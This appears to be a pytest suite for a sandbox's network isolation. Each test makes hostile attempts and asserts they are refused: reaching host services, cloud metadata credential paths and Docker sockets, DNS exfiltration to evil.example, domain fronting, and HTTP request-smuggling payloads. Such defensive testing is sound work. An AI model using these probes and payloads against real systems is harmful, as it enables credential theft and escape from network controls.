"""A hostile program against the network: everything that it may try to reach beside what its policy lists."""

import contextlib
import secrets
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from corral import Sandbox

if TYPE_CHECKING:
    from tests.attack.conftest import Range

    from corral.testing.attack.arena import Trap

pytestmark = pytest.mark.root

NXDOMAIN, REFUSED = 3, 5
PUBLIC = "93.184.215.14"
ALLOWED = "allowed.example"
OTHER = "other.example"
POLICY = (f"{ALLOWED}:443", f"{ALLOWED}:80", OTHER, f"{ALLOWED}:8443")
METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192")


def reasons(arena: "Range", box: Sandbox) -> list[str]:
    """Why the gateway refused what it refused, as the host sees it."""
    return [str(item["reason"]) for item in arena.client.denials(box.id)]


def status(answer: Any) -> int:
    """The status of an HTTP attempt, 0 where none came."""
    return int(answer["status"]) if isinstance(answer, dict) else 0


def address_of(arena: "Range", box: Sandbox, name: str) -> str:
    """The address that stands for an allowed name."""
    [answer] = arena.net(box, ("dns", "10.200.0.1", name))
    assert answer["answers"] == 1
    return str(answer["address"])


# -- the host -------------------------------------------------------------------------------------------------------


def test_services_of_the_host_are_not_reached(
    arena: "Range", isolation: str, trap: "Trap", addresses: list[str]
) -> None:
    """G-6, G-10: listeners on every address of the host, by loopback, interface addresses, TCP and UDP."""
    attempts = [("tcp", address, trap.tcp_port) for address in addresses]
    attempts += [("udp", address, trap.udp_port) for address in addresses]
    outcomes = arena.net(arena.box(isolation), *attempts)
    assert set(outcomes) <= {
        "ECONNREFUSED",
        "ConnectionRefusedError",
        "ENETUNREACH",
        "silence",
        "EHOSTUNREACH",
        "OSError",
    }
    assert trap.touched() == []


def test_an_allowed_address_of_the_host_is_refused_all_the_same(
    arena: "Range", isolation: str, trap: "Trap", addresses: list[str]
) -> None:
    """G-63: a rule that names the host's own address, or loopback, opens nothing."""
    own = [address for address in addresses if not address.startswith(("127.", "0.", "10.200."))]
    box = arena.box(isolation, allow=tuple(f"{address}:{trap.tcp_port}" for address in own))
    for answer in arena.net(
        box, *(("http", address, trap.tcp_port, f"{address}:{trap.tcp_port}") for address in own)
    ):
        assert status(answer) == 403
    assert "ok" not in arena.net(box, *(("tls", address, trap.tcp_port, None) for address in own))
    assert trap.touched() == []


def test_an_allowed_name_that_means_the_host_is_refused(arena: "Range", isolation: str, trap: "Trap") -> None:
    """G-62, G-63: whoever owns a name chooses its addresses; one that leads to this host is not dialled."""
    name = socket.gethostname()
    with contextlib.suppress(OSError):
        socket.gethostbyname(name)
        box = arena.box(isolation, allow=(f"{name}:{trap.tcp_port}", f"{name}:443"))
        place = address_of(arena, box, name)
        answers = arena.net(
            box,
            ("http", place, trap.tcp_port, f"{name}:{trap.tcp_port}"),
            ("tls", place, trap.tcp_port, name),
        )
        assert status(answers[0]) in (403, 502)
        assert answers[1] != "ok"
        assert trap.touched() == []


def test_metadata_services_are_refused(arena: "Range", isolation: str) -> None:
    """G-64: by address and by name, whatever Host says, and also where a rule lists them."""
    path = "/latest/meta-data/iam/security-credentials/"
    box = arena.box(isolation, allow=("metadata.google.internal", "169.254.169.254"))
    hosts = (*METADATA, "metadata.google.internal")
    answers = arena.net(box, *(("http", address, 80, host, path) for address in METADATA for host in hosts))
    assert {status(answer) for answer in answers} <= {400, 403, 421}
    [answer] = arena.net(box, ("dns", "10.200.0.1", "metadata.google.internal"))
    assert answer["code"] == NXDOMAIN
    assert set(arena.net(box, *(("tcp", address, 8080) for address in METADATA))) == {"ECONNREFUSED"}


def test_unix_sockets_of_the_host_are_not_there(arena: "Range", isolation: str, trap: "Trap") -> None:
    """G-11, design §4: the daemon's socket and other local services, in the file system and in the abstract name space."""
    api = str(arena.daemon.run / "api.sock")
    paths = (
        *(api, f"/proc/1/root{api}", *trap.paths),
        *("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock"),
    )
    outcomes = arena.net(arena.box(isolation), *(("unix", path) for path in paths), user="root")
    assert set(outcomes) <= {"ENOENT", "ECONNREFUSED", "EACCES"}
    assert trap.touched() == []


def test_the_control_api_is_not_served_to_sandboxes(arena: "Range", isolation: str) -> None:
    """G-9, G-11: no Host header makes the gateway answer as the daemon."""
    hosts = (
        "localhost",
        "127.0.0.1",
        "corral",
        "gateway.corral",
        "10.200.0.1",
        "[::1]",
        "localhost:7070",
        "api.sock",
    )
    paths = ("/v1/sandboxes", "/v1/secrets", "/v1/config", "/openapi.json", "/v1/health")
    answers = arena.net(
        arena.box(isolation), *(("http", "10.200.0.1", 80, host, path) for host in hosts for path in paths)
    )
    assert {status(answer) for answer in answers} <= {400, 403, 404, 421}
    assert not [
        answer["body"] for answer in answers if "state" in answer["body"] or "paths" in answer["body"]
    ]


def test_neither_gateway_nor_daemon_listen_on_the_host(arena: "Range") -> None:
    """G-9: what a sandbox's gateway listens on is in the sandbox's own namespace, and nothing of it on the host."""
    arena.box()
    inodes = _listening_inodes("/proc/net/tcp") | _listening_inodes("/proc/net/tcp6")
    for pid in (arena.gateway.pid, arena.engine.pid):
        links = []
        for entry in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(FileNotFoundError):
                links.append(str(entry.readlink()))
        assert not {link for link in links if link.removeprefix("socket:[").removesuffix("]") in inodes}


def _listening_inodes(table: str) -> set[str]:
    rows = (line.split() for line in Path(table).read_text().splitlines()[1:])
    return {row[9] for row in rows if row[3] == "0A"}


# -- other sandboxes ------------------------------------------------------------------------------------------------


def test_another_sandbox_is_not_reached(arena: "Range", isolation: str) -> None:
    """G-7: its listeners, by the address that it has, which is one's own, and by every other one."""
    neighbour = arena.box()
    listen = (
        "import socket, sys\n"
        "s = socket.socket(); s.bind(('0.0.0.0', 7777)); s.listen(); s.settimeout(300)\n"
        "u = socket.socket(socket.AF_UNIX); u.bind('\\0neighbour'); u.listen()\n"
        "print('ready', flush=True)\n"
        "try:\n    s.accept(); print('reached', flush=True)\nexcept OSError: pass\n"
    )
    server = neighbour.spawn(["python3", "-c", listen])
    assert next(iter(server.output())).text == "ready\n"
    box = arena.box(isolation)
    targets = (
        "10.200.0.1",
        "10.200.0.2",
        "10.200.0.3",
        "10.200.0.0",
        "127.0.0.1",
        "198.18.0.1",
        "10.200.0.6",
    )
    outcomes = arena.net(box, *(("tcp", address, 7777) for address in targets), ("unix", "@neighbour"))
    assert set(outcomes) <= {
        "ECONNREFUSED",
        "ENETUNREACH",
        "EHOSTUNREACH",
        "EACCES",
        "TimeoutError",
        "ETIMEDOUT",
    }
    assert "ok" not in outcomes
    server.kill()
    assert "reached" not in server.wait().stdout


# -- other ways than TCP ----------------------------------------------------------------------------------------------


def test_only_harmless_kinds_of_sockets(arena: "Range") -> None:
    """G-300: no packet, raw, VSOCK, ALG, XDP, Bluetooth or CAN sockets; no transport beside TCP, UDP and ping."""
    found = arena.run(arena.box(), "sockets", user="root")
    assert set(found["families"]) <= {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    assert set(found["internet"]) <= {"stream tcp", "dgram udp", "dgram icmp", "dgram udplite"}


def test_gvisor_gives_no_sockets_of_the_host(arena: "Range") -> None:
    """G-300, in gVisor: raw and packet sockets need a right that nobody has; VSOCK and the rest do not exist."""
    found = arena.run(arena.box("gvisor"), "sockets", user="root")
    assert set(found["families"]) <= {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    assert not [kind for kind in found["internet"] if kind.startswith(("raw", "packet"))]


def test_the_network_cannot_be_changed_from_inside(arena: "Range", isolation: str) -> None:
    """G-3: neither an address nor a route, as the sandbox's root."""
    changes = arena.run(arena.box(isolation), "sockets", user="root")["changes"]
    assert set(changes.values()) <= {1, 13, 95}  # EPERM, EACCES, EOPNOTSUPP
    assert changes["address"]
    assert changes["route"]


def test_no_ipv6(arena: "Range", isolation: str) -> None:
    """G-8: no IPv6 address is reached, not even loopback in a container; mapped addresses go where IPv4 goes."""
    found = arena.run(arena.box(isolation), "sockets", user="root")["ipv6"]
    assert "ok" not in found.values()


def test_no_ping_and_no_udp(arena: "Range", isolation: str, trap: "Trap", addresses: list[str]) -> None:
    """G-300: echo requests and datagrams to the host and the world have no answer and arrive nowhere."""
    box = arena.box(isolation)
    targets = [
        address for address in (*addresses, PUBLIC, "8.8.8.8") if not address.startswith(("127.", "0."))
    ]
    assert "reply" not in arena.net(box, *(("ping", address) for address in targets))
    attempts = [
        ("udp", address, port) for address in targets for port in (trap.udp_port, 123, 443, 853, 51820)
    ]
    assert "reply" not in arena.net(box, *attempts)
    assert trap.touched() == []


# -- DNS --------------------------------------------------------------------------------------------------------------


@contextlib.contextmanager
def listening_to_the_wire() -> Iterator["list[bytes]"]:
    """All packets that leave or enter the host in this block, gateway's included; loopback too."""
    packets: list[bytes] = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as wire:
        wire.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE, for a busy host's packets
        wire.setblocking(False)
        yield packets
        with contextlib.suppress(BlockingIOError):
            while True:
                packets.append(wire.recv(65536))


def test_a_denied_name_never_leaves(arena: "Range", isolation: str) -> None:
    """G-281, NET-6: data in labels does not leave by DNS, to whatever resolver it is sent, by UDP or TCP, of any type."""
    mark, control = f"x{secrets.token_hex(8)}", f"c{secrets.token_hex(8)}"
    box = arena.box(isolation, allow=("*.wild.example",))
    servers = ("10.200.0.1", "8.8.8.8", "1.1.1.1", "9.9.9.9")
    kinds = (1, 28, 16, 15, 2, 12, 33, 65, 255, 10, 6)
    questions: list[tuple[object, ...]] = [
        ("dns", server, f"{mark}.evil.example", kind) for server in servers for kind in kinds
    ]
    questions += [("dns", server, f"{mark}.evil.example", 1, True) for server in servers]
    with listening_to_the_wire() as packets:
        answers = arena.net(box, *questions)
        # G-283: an allowed wildcard is not looked up before it is connected to.
        arena.net(
            box, ("dns", "10.200.0.1", f"{mark}.wild.example"), ("dns", "8.8.8.8", f"{mark}.wild.example", 16)
        )
        with socket.socket(type=socket.SOCK_DGRAM) as probe:  # that the wire is heard at all
            probe.sendto(control.encode(), ("127.0.0.1", 53))
    assert {answer.get("code") for answer in answers} == {NXDOMAIN}
    assert any(control.encode() in packet for packet in packets)
    assert not any(mark.encode() in packet for packet in packets)


def test_odd_questions_are_refused(arena: "Range", isolation: str) -> None:
    """G-285, G-286, G-287: zone transfers, names of too many labels, and floods; the gateway goes on serving."""
    box = arena.box(isolation, allow=("*.wild.example",))
    deep = ".".join(["a"] * 60) + ".wild.example"
    answers = arena.net(
        box,
        ("dns", "10.200.0.1", "wild.example", 252),
        ("dns", "10.200.0.1", deep),
        ("dns", "10.200.0.1", "a.wild.example", 16),
    )
    assert answers[0]["code"] == REFUSED
    assert answers[1]["code"] in (NXDOMAIN, REFUSED)
    assert answers[2]["answers"] == 0
    flood = [
        ("udp", "10.200.0.1", 53, "not a question"),
        *(("dns", "10.200.0.1", f"n{n}.evil.example") for n in range(300)),
    ]
    arena.net(box, *flood)
    assert address_of(arena, box, "a.wild.example")


def test_own_resolver_settings_change_nothing(arena: "Range", isolation: str) -> None:
    """G-12, G-290: a parent directory renamed, another resolver, another hosts file: all still ends at the gateway."""
    box = arena.box(isolation, allow=(ALLOWED,))
    box.exec("mv /etc /etc.old && mkdir /etc && cp /etc.old/passwd /etc.old/group /etc/", user="root")
    box.exec(
        "echo nameserver 8.8.8.8 > /etc/resolv.conf; echo '1.2.3.4 allowed.example' > /etc/hosts", user="root"
    )
    [answer] = arena.net(box, ("dns", "8.8.8.8", "evil.example"))
    assert answer["code"] == NXDOMAIN
    [answer] = arena.net(box, ("http", "1.2.3.4", 80, ALLOWED))
    assert (
        "reason=unresolved" in answer["head"]
    )  # by the name, which the host does not know, not by the address


# -- allowed names as a cover -----------------------------------------------------------------------------------------


def test_unlisted_ports_of_an_allowed_host(arena: "Range", isolation: str) -> None:
    """G-55: the port belongs to the rule; the kernel refuses the others, the gateway those that it serves for others."""
    box = arena.box(isolation, allow=(f"{ALLOWED}:443", f"{OTHER}:8443"))
    place = address_of(arena, box, ALLOWED)
    assert set(arena.net(box, *(("tcp", place, port) for port in (22, 25, 465, 587, 3306, 8080)))) == {
        "ECONNREFUSED"
    }
    assert arena.net(box, ("tls", place, 8443, ALLOWED)) == ["refused port-not-allowed"]
    [answer] = arena.net(box, ("http", place, 80, ALLOWED))
    assert "reason=port-not-allowed" in answer["head"]


def test_server_names_that_do_not_fit_are_refused(arena: "Range", isolation: str) -> None:
    """G-47, G-50, NET-24: domain fronting by SNI; a handshake without a name, or with an address as name."""
    box = arena.box(isolation, allow=POLICY)
    place, other = address_of(arena, box, ALLOWED), address_of(arena, box, OTHER)
    attempts = [
        (place, "evil.example"), (place, OTHER), (other, ALLOWED), (place, None), ("10.200.0.1", ALLOWED),
        (place, "gateway.corral"), (place, "api.anthropic.com"), (place, "allowed.example.evil.example"),
    ]  # fmt: skip
    outcomes = arena.net(box, *(("tls", address, 443, name) for address, name in attempts))
    # The gateway's own refusals; an upstream that cannot be reached would be told as that.
    assert set(outcomes) <= {
        "TLSV1_UNRECOGNIZED_NAME",
        "TLSV1_ALERT_ACCESS_DENIED",
        "refused host-not-allowed",
        "refused model-api",
        "refused destination-mismatch",
    }
    assert reasons(arena, box).count("destination-mismatch") == 3


def test_host_fields_that_do_not_fit_are_refused(arena: "Range", isolation: str) -> None:
    """G-47, G-49: domain fronting by Host, by an absolute target, by a second request on the connection, by CONNECT."""
    box = arena.box(isolation, allow=POLICY)
    place, other = address_of(arena, box, ALLOWED), address_of(arena, box, OTHER)
    second = "GET / HTTP/1.1\r\nHost: gateway.corral\r\n\r\n"
    attempts = [
        ("http", place, 80, "evil.example"), ("http", place, 80, OTHER), ("http", other, 80, ALLOWED),
        ("http", "10.200.0.1", 80, ALLOWED), ("http", place, 80, f"{ALLOWED}:8443"), ("http", place, 80, "api.anthropic.com"),
        ("http", place, 80, ALLOWED, "http://evil.example/"), ("http", place, 80, "evil.example", f"http://{ALLOWED}/"),
        ("http", place, 80, ALLOWED, "evil.example:443", "", "CONNECT"), ("http", place, 80, f"evil.example@{ALLOWED}"),
        ("http", place, 80, ALLOWED, "/", f"Host: {OTHER}\r\n"), ("http", place, 80, "gateway.corral", "/policy"),
    ]  # fmt: skip
    answers = arena.net(box, *attempts)
    assert {status(answer) for answer in answers} <= {400, 403, 405, 421}
    # None was refused only because there is no such host on the other side.
    assert not [answer["head"] for answer in answers if "reason=unre" in answer["head"]]
    [answers] = arena.net(
        box, ("raw", "10.200.0.1", 80, second + second.replace("gateway.corral", "evil.example"), 2)
    )
    assert "reason=host-not-allowed" in answers[-1]["head"]


def test_smuggled_requests_are_refused(arena: "Range", isolation: str) -> None:
    """G-76 to G-81: two framings, odd codings and lengths, folded and unseparated fields: 400, and the connection ends."""
    box = arena.box(isolation, allow=POLICY)
    place = address_of(arena, box, ALLOWED)
    hidden = f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
    fields = (
        "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 4\r\nContent-Length: 5\r\n",
        "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding: chunked, identity\r\n", "Content-Length: +4\r\n",
        "Content-Length : 4\r\n", "Transfer-Encoding : chunked\r\n", "X: a\r\n b: c\r\n", "X\0: a\r\n", "Content-Length: 0x4\r\n",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    )  # fmt: skip
    texts = (f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\n{extra}\r\n0\r\n\r\n{hidden}" for extra in fields)
    for extra, answers in zip(
        fields, arena.net(box, *(("raw", place, 80, text, 2) for text in texts)), strict=True
    ):
        assert [answer["status"] for answer in answers] == [400] or answers == [], (extra, answers)


def test_model_apis_are_not_reached_past_the_meter(arena: "Range", isolation: str) -> None:
    """G-185: an own key, or a model API as an allowed host, is no way to spend unmetered."""
    box = arena.box(isolation, allow=("api.anthropic.com", "api.openai.com", "*"))
    answers = arena.net(
        box, *(("dns", "10.200.0.1", name) for name in ("api.anthropic.com", "api.openai.com"))
    )
    assert {answer["code"] for answer in answers} == {NXDOMAIN}
    for answer in arena.net(
        box, ("tls", PUBLIC, 443, "api.anthropic.com"), ("tls", PUBLIC, 443, "api.openai.com")
    ):
        assert answer == "refused model-api"


def test_without_a_policy_nothing_is_reached(arena: "Range", isolation: str) -> None:
    """G-2, G-298: no proxy variable decides; every name is unknown, every address refused, and the refusal says why."""
    box = arena.box(isolation)
    answers = arena.net(
        box, ("dns", "10.200.0.1", "example.com"), ("http", PUBLIC, 80, "example.com"), ("tls", PUBLIC, 443, "example.com"),
        ("tcp", PUBLIC, 22),
    )  # fmt: skip
    assert answers[0]["code"] == NXDOMAIN
    assert status(answers[1]) == 403
    assert "corral create --allow" in answers[1]["body"]
    assert answers[2] == "refused host-not-allowed"
    assert answers[3] == "ECONNREFUSED"
